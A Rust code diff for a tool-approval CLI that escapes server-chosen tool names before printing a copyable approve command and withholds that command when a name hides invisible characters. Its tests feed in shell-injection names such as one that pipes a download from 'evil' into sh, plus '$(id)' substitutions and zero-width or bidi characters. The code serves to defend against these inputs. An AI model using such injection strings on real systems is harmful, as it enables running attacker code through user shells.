@@ -42,8 +42,8 @@ enum Command {
     Approve {
         /// What: `UPSTREAM/NAME`, or `UPSTREAM` for all of it.
         target: String,
-        /// The beginning of the digest that `airlock tools diff` has shown: if it is another by now, nothing
-        /// is let in.
+        /// The whole digest that `airlock tools diff` has shown, with or without `sha256:`: if it is another
+        /// by now, nothing is let in.
         #[arg(long)]
         digest: Option<String>,
         #[command(flatten)]
@@ -138,8 +138,15 @@ fn entries<'a>(report: &'a Report, target: Option<&'a str>) -> impl Iterator<Ite
     all.filter(move |(_, entry)| name.is_none_or(|name| name == entry.name))
 }
 
+/// The servers that are asked for and have more held back than the report shows, and how many.
+fn beyond<'a>(report: &'a Report, target: Option<&'a str>) -> impl Iterator<Item = (&'a str, usize)> {
+    let upstream = target.map(|target| parted(target).0);
+    let own = report.upstreams.iter().filter(move |one| upstream.is_none_or(|upstream| upstream == one.name));
+    own.map(|one| (one.name.as_str(), one.beyond)).filter(|(_, count)| *count > 0)
+}
+
 fn list(report: &Report, upstream: Option<&str>) -> (String, bool) {
-    let (mut out, mut is_held) = (String::new(), false);
+    let (mut out, mut is_held) = (String::new(), beyond(report, upstream).next().is_some());
     for alarm in &report.alarms {
         // Writing to a string does not fail.
         let _ = writeln!(out, "ALARM  {}", revealed(alarm));
@@ -174,14 +181,49 @@ fn diff(report: &Report, target: Option<&str>) -> (String, bool) {
         for line in difference::between(old.unwrap_or_default(), new.unwrap_or_default()) {
             let _ = writeln!(out, "  {line}");
         }
-        let digest: String = entry.digest.chars().take("sha256:".len() + 12).collect();
-        let _ =
-            writeln!(out, "  to let it in: airlock tools approve '{upstream}/{name}' --digest {digest}\n");
+        let _ = writeln!(out, "  {}\n", remedy(upstream, entry));
+    }
+    for (upstream, count) in beyond(report, target) {
+        is_held = true;
+        let _ = writeln!(
+            out,
+            "{upstream}: {count} more held back without room to keep them: approve what is shown, or have the server list \
+             less"
+        );
     }
     if !is_held {
         out.push_str("nothing is held back\n");
     }
     (out, is_held)
+}
+
+/// How an entry is let in: a command that can be copied, if its name can be. The server has chosen the name.
+fn remedy(upstream: &str, entry: &Entry) -> String {
+    let (name, digest) = (&entry.name, &entry.digest);
+    if revealed(name) != *name {
+        return format!(
+            "its name has characters that nobody sees, so there is no command to copy: once you have looked at all that is \
+             held back of {upstream}, `airlock tools approve {upstream}` lets it in ({digest})"
+        );
+    }
+    let target = quoted(&format!("{upstream}/{name}"));
+    format!("to let it in: airlock tools approve {target} --digest {digest}")
+}
+
+/// `text` as one word of a shell. A backslash stands outside of the quotes, since not all shells read it
+/// alike within them.
+fn quoted(text: &str) -> String {
+    let mut word = String::with_capacity(text.len() + 2);
+    word.push('\'');
+    for c in text.chars() {
+        match c {
+            '\'' => word.push_str(r"'\''"),
+            '\\' => word.push_str(r"'\\'"),
+            c => word.push(c),
+        }
+    }
+    word.push('\'');
+    word
 }
 
 #[cfg(test)]
@@ -200,11 +242,52 @@ mod tests {
         let (shown, is_held) = diff(&report, Some("docs/read"));
         assert!(is_held && shown.contains("+   \"description\": \"reads⟨U+200B⟩\""), "{shown}");
         assert!(
-            shown.contains("airlock tools approve 'docs/read' --digest sha256:0123456789ab\n"),
+            shown.contains("airlock tools approve 'docs/read' --digest sha256:0123456789abcdef\n"),
             "{shown}"
         );
         assert_eq!(diff(&report, Some("other")), ("nothing is held back\n".to_owned(), false));
         let (listed, _) = list(&report, None);
         assert!(listed.starts_with("HELD    docs/read (tool, sha256:0123456789ab): has another"), "{listed}");
+    }
+
+    /// A report on one that is held back and has this name, and on more without room.
+    fn named(name: &str, beyond: usize) -> Report {
+        let entry = json!({"kind": "tool", "name": name, "state": "held", "digest": "sha256:00", "why": "is new",
+            "since": null, "definition": "{}", "locked": null});
+        let upstream = json!({"name": "docs", "bound_to": "stdio docs", "locked_as": null, "entries": [entry],
+            "beyond": beyond});
+        let report = json!({"mode": "approve", "file": "f", "alarms": [], "upstreams": [upstream]});
+        serde_json::from_value(report).expect("a report")
+    }
+
+    #[test]
+    fn a_name_is_one_word_of_the_command_or_there_is_no_command() {
+        for (name, word) in [
+            ("x'; curl evil|sh; '", r"'docs/x'\''; curl evil|sh; '\'''"),
+            ("$(id) `id` !! \"", r#"'docs/$(id) `id` !! "'"#),
+            (r"a\'; id; '", r"'docs/a'\\''\''; id; '\'''"),
+        ] {
+            let (shown, _) = diff(&named(name, 0), None);
+            let command = format!("  to let it in: airlock tools approve {word} --digest sha256:00\n");
+            assert!(shown.contains(&command), "{shown}");
+        }
+        for name in ["read\u{200b}", "a\nb", "\u{202e}daer", "a\u{a0}b"] {
+            let (shown, _) = diff(&named(name, 0), None);
+            let is_told = shown.contains("characters that nobody sees, so there is no command to copy");
+            assert!(is_told && !shown.contains("--digest"), "{shown}");
+        }
+    }
+
+    #[test]
+    fn what_has_no_room_is_held_back_as_well() {
+        let mut report = named("read", 3);
+        let (shown, _) = diff(&report, None);
+        assert!(
+            shown.contains("\ndocs: 3 more held back without room to keep them: approve what"),
+            "{shown}"
+        );
+        report.upstreams[0].entries.clear();
+        assert!(diff(&report, Some("docs")).1 && list(&report, Some("docs")).1);
+        assert!(!diff(&report, Some("other")).1 && !list(&report, Some("other")).1);
     }
 }
